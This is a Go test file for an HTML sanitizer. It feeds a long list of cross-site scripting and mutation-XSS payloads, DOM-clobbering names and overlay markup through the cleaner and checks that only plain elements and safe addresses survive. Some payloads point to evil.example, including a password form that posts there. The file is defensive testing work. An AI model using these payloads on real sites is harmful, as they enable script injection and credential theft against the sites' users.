package collection

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// hostile is markup that tries to run, to reach out, to lay itself over the page, or to pass for a part of the program.
var hostile = []string{
	// Scripts and addresses that run.
	`<script>alert(1)</script>`, `<script type="application/json" data-page-state>{}</script>`, `<SCRIPT SRC=//evil.example>`,
	`<img src=x onerror=alert(1)>`, `<p onclick=alert(1)>x</p>`, `<details open ontoggle=alert(1)>x</details>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#9;script:alert(1)">x</a>`, `<a href="javascript&#9;:alert(1)">x</a>`,
	`<a href="&#1;javascript:alert(1)">x</a>`, `<a href=" JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="javascript:alert(1)">`,
	// Other languages inside the page, and mutations of them.
	`<svg><animate onbegin=alert(1) attributeName=x></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg/onload=alert(1)>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><img src=x onerror=alert(1)></template>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<title><img title="</title><img src=x onerror=alert(1)>">`,
	`<p title="--><img src=x onerror=alert(1)>">x</p>`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[><img src=x onerror=alert(1)>]]>`, `<?xml ?><img src=x onerror=alert(1)>`,
	// Styles and overlays.
	`<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example>`,
	`<div class="overlay" role="dialog" tabindex="1" contenteditable hidden popover autofocus draggable="true">x</div>`, `<dialog open>x</dialog>`, `<marquee>x</marquee>`, `<blink>x</blink>`,
	// The document as a whole.
	`<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<body onload=alert(1)>`, `<html manifest=x>`, `<head>`, `<frameset><frame src=x></frameset>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`, `<applet code=x></applet>`, `<portal src=x>`,
	`<video src=x onerror=alert(1)></video>`, `<audio src=x></audio>`, `<canvas></canvas>`, `<slot name=x></slot>`, `<map name="state"><area href="https://evil.example"></map><img usemap="#state">`,
	// Forms.
	`<form action="https://evil.example"><input name=password type=password><button formaction=//evil.example>Sign in</button></form>`, `<input form=x>`, `<select><option>x</select>`,
	`<label for="email">x</label>`, `<fieldset><legend>x</legend></fieldset>`, `<output name=x>`, `<isindex action=x>`, `<keygen>`, `<meter value=1>`, `<progress value=1>`,
	// Names that the program's own scripts could find instead of what they look for.
	`<p id="state">{"route":"home"}</p>`, `<h2 id="state">x</h2>`, `<div id=root></div>`, `<a id="content" name="content">x</a>`, `<img name="querySelector" src="/x.png">`, `<img id="cookie" name="cookie">`,
	`<form id=documentElement><input name=lang></form>`, `<a id=location href="https://evil.example">x</a>`, `<p id="text-state&quot; onclick=alert(1)">x</p>`, `<p id="">x</p>`, `<p id="a b">x</p>`,
	`<a name=x href="#state">x</a>`, `<p data-page-state>{}</p>`, `<p aria-owns="root" slot="x" is="x" part="x" itemprop="x" accesskey="s">x</p>`,
	// Broken markup.
	`<p`, `<p title="`, `</p></div></div></main>x`, `<table><p><tr><td><table>`, `<<p>`, `<a href="/x"<b>x`, "<p title=`x>y</p>", `<p/onclick=alert(1)/x>`,
}

// clean gives the markup as it would be stored.
func clean(t *testing.T, markup string) string {
	t.Helper()
	cleaned, problem := (&Field{Name: "Body_en", Kind: HTML}).parseText(markup)
	if problem != nil {
		t.Fatalf("%s: %v", markup, problem)
	}
	return cleaned.(string)
}

// A page is put together as text, so an element that is left open, or closed once too often, would reach into the rest of it.
func TestMarkupEndsWhereItsPlaceEnds(t *testing.T) {
	for _, markup := range append(hostile, `<a href="/x">`, `<details>`, `<table><tr><td>`, `<b><i>`, `</div></div>`, `<div><div>`, strings.Repeat("<div>", 20_000), `<p><table><a>`, `<pre>`) {
		page := parseMarkup(t, `<section><div>`+clean(t, markup)+`</div><hr title="end"></section>`)
		section := page.FirstChild
		if page.LastChild != section || section.Data != "section" || section.FirstChild.NextSibling == nil || section.FirstChild.NextSibling != section.LastChild || section.LastChild.Data != "hr" {
			t.Errorf("%.80s reaches beyond its place: %.200s", markup, clean(t, markup))
		}
	}
}

// Whatever staff write, a reader's browser finds plain text markup and no more: nothing runs, nothing lies over the page, and nothing
// passes for a part of the program.
func TestMarkupIsCleaned(t *testing.T) {
	for _, markup := range hostile {
		cleaned := clean(t, "<p>before</p>"+markup+"<p>after</p>")
		for node := range parseMarkup(t, cleaned).Descendants() {
			if node.Type == html.CommentNode || node.Type == html.DoctypeNode {
				t.Errorf("%s became %s: a comment", markup, cleaned)
			}
			if node.Type == html.ElementNode {
				checkElement(t, markup, node)
			}
		}
		if again := clean(t, cleaned); again != cleaned {
			t.Errorf("%s became %s, and cleaned again %s", markup, cleaned, again)
		}
	}
}

func parseMarkup(t *testing.T, markup string) *html.Node {
	t.Helper()
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(markup), body)
	if err != nil {
		t.Fatal(err)
	}
	for _, node := range nodes {
		body.AppendChild(node)
	}
	return body
}

var (
	plainElements = strings.Fields("h1 h2 h3 h4 h5 h6 p br hr div span section article figure figcaption blockquote pre code strong b em i u s small sub sup mark abbr cite q del ins time " +
		"ul ol li dl dt dd table caption thead tbody tfoot tr td th a img details summary ruby rt rp wbr")
	plainAttributes = strings.Fields("id title lang dir href rel src alt width height colspan rowspan scope datetime cite open start reversed type value align")
)

func checkElement(t *testing.T, from string, node *html.Node) {
	t.Helper()
	if !slices.Contains(plainElements, node.Data) || node.Namespace != "" {
		t.Errorf("%s: <%s> came through", from, node.Data)
	}
	for _, attribute := range node.Attr {
		if !slices.Contains(plainAttributes, attribute.Key) {
			t.Errorf("%s: %s=%q came through", from, attribute.Key, attribute.Val)
		}
		switch attribute.Key {
		case "id":
			if !strings.HasPrefix(attribute.Val, "text-") {
				t.Errorf("%s: the id %q can be one of the program's own", from, attribute.Val)
			}
		case "href", "src", "cite":
			u, err := url.Parse(attribute.Val)
			if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) {
				t.Errorf("%s: the address %q came through", from, attribute.Val)
			}
		}
	}
}

func TestGoodMarkupStaysAsItIs(t *testing.T) {
	for _, markup := range []string{
		`<h2>价格</h2><table><tbody><tr><td colspan="2"><strong>A$14</strong></td></tr></tbody></table><p><a href="https://example.com/">x</a></p>`,
		`<table><thead><tr><th scope="col">a</th></tr></thead></table><ol start="3"><li>x</li></ol><p>1 &lt; 2 &amp; 3</p><img src="/uploads/a.png" alt="A van" width="10" height="10"/>`,
		`<p lang="zh-CN">你好<br/>再见</p><details><summary>More</summary><p>x</p></details><p><a href="/contact-us">write</a>, <a href="mailto:a@example.com">mail</a></p>`,
	} {
		if got := clean(t, markup); got != markup {
			t.Errorf("%s became %s", markup, got)
		}
	}
}

// A table of contents goes on working: the mark and the links to it get the same prefix, once.
func TestLinksWithinAPageStillLead(t *testing.T) {
	const want = `<p><a href="#text-pets">Pets</a> <a href="#text-费用">费用</a> <a href="/policy#pets">elsewhere</a></p><h2 id="text-pets">Pets</h2><h2 id="text-费用">费用</h2>`
	got := clean(t, `<p><a href="#pets">Pets</a> <a href="#费用">费用</a> <a href="/policy#pets">elsewhere</a></p><h2 id="pets">Pets</h2><h2 id="费用">费用</h2>`)
	if decoded, err := url.PathUnescape(got); err != nil || decoded != want {
		t.Errorf("became %s", got)
	}
	if again := clean(t, got); again != got {
		t.Errorf("cleaned again: %s", again)
	}
}
